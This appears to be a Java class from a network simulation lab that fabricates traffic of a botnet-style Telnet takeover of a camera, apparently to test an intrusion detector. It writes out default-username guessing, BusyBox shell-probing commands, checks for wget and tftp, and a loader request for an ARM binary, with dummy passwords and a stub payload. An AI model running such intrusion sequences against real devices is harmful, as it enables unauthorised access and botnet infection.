package komainu.lab.bot;

import static komainu.lab.Stage.MILLISECOND;
import static komainu.lab.Stage.SECOND;

import java.util.List;
import komainu.lab.Conversation;
import komainu.lab.Node;
import komainu.lab.Stage;
import komainu.lab.talk.Octets;

/// A device taken from outside over Telnet.
public final class TakeOver {
    /// A word no shell knows, by whose refusal a program tells that it has a shell. Made up, as each family has its
    /// own.
    private static final String TOKEN = "KOMATEST";

    private static final byte[] WILL_ECHO = {(byte) 255, (byte) 251, 1, (byte) 255, (byte) 251, 3};
    private static final byte[] DO_ECHO = {(byte) 255, (byte) 253, 1, (byte) 255, (byte) 253, 3};
    private static final String PROMPT = "\r\n# ";

    private TakeOver() {}

    /// Guesses, a shell, the token dialogue at machine speed, and a request to a loader that hands over no program.
    public static void telnet(Stage stage) {
        long at = guesses(stage, stage.home().camera.node(), 4);
        Conversation talk = greet(stage, stage.home().camera.node(), at);
        login(stage, talk, "root");
        talk.server("\r\n\r\nBusyBox v1.12.1 (2019-02-20) built-in shell (ash)\r\n# ");
        for (String word : List.of("enable", "system", "shell", "sh")) {
            line(stage, talk, word, word.equals("sh") ? "" : "-sh: " + word + ": not found");
        }
        proof(stage, talk, "");
        proof(stage, talk, "/bin/busybox ps; ");
        proof(stage, talk, "/bin/busybox cat /proc/mounts; ");
        proof(stage, talk, "/bin/busybox wget; /bin/busybox tftp; ");
        load(stage, talk.at() + 200 * MILLISECOND);
        talk.pause(2 * SECOND);
        proof(stage, talk, "");
        talk.close();
    }

    /// Guesses that all fail: an attack, not a take-over.
    public static void guessing(Stage stage) {
        guesses(stage, stage.home().camera.node(), 12);
    }

    /// The seventh guess is right; nothing else is typed.
    public static void guessed(Stage stage) {
        Node camera = stage.home().camera.node();
        long at = guesses(stage, camera, 6);
        Conversation talk = greet(stage, camera, at);
        login(stage, talk, "root");
        talk.server("\r\n\r\nBusyBox v1.12.1 (2019-02-20) built-in shell (ash)\r\n# ");
        talk.pause(stage.dice().between(400 * MILLISECOND, 900 * MILLISECOND)).close();
    }

    private static long guesses(Stage stage, Node camera, int count) {
        long at = stage.from();
        for (int i = 0; i < count; i++) {
            Conversation talk = greet(stage, camera, at);
            login(
                    stage,
                    talk,
                    List.of("root", "admin", "user", "guest", "support", "service")
                            .get(i % 6));
            talk.server("\r\nLogin incorrect\r\nlogin: ").close();
            at = talk.at() + stage.dice().between(300 * MILLISECOND, 700 * MILLISECOND);
        }
        return at;
    }

    private static Conversation greet(Stage stage, Node camera, long at) {
        Conversation talk = stage.call(Actors.INTRUDER, camera, 23, at).open();
        return talk.server(WILL_ECHO).client(DO_ECHO).server("\r\n192.0.0.64 login: ");
    }

    /// The secret is dummy text from the dice: no list of passwords is needed to test a detector.
    private static void login(Stage stage, Conversation talk, String user) {
        talk.pause(150 * MILLISECOND).client(user + "\r\n").server(user + "\r\nPassword: ");
        talk.pause(150 * MILLISECOND).client(stage.dice().word(8) + "\r\n");
    }

    private static void line(Stage stage, Conversation talk, String text, String answer) {
        talk.pause(stage.dice().between(40 * MILLISECOND, 160 * MILLISECOND)).client(text + "\r\n");
        talk.server(text + "\r\n" + answer + PROMPT);
    }

    private static void proof(Stage stage, Conversation talk, String before) {
        line(stage, talk, before + "/bin/busybox " + TOKEN, TOKEN + ": applet not found");
    }

    /// The camera asks a bare address for a file named after a processor; what comes is the four-byte mark of a
    /// program and zeros.
    private static void load(Stage stage, long at) {
        Conversation talk =
                stage.call(stage.home().camera.node(), Actors.LOADER, 80, at).open();
        talk.client("GET /bins/none.arm7 HTTP/1.1\r\nHost: " + Actors.LOADER.ip()
                + "\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n");
        byte[] body = new Octets().u32(0x7f45_4c46).zeros(60).done();
        talk.server(new Octets()
                        .text(
                                "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\nContent-Length: 64\r\n\r\n")
                        .bytes(body)
                        .done())
                .close();
    }
}
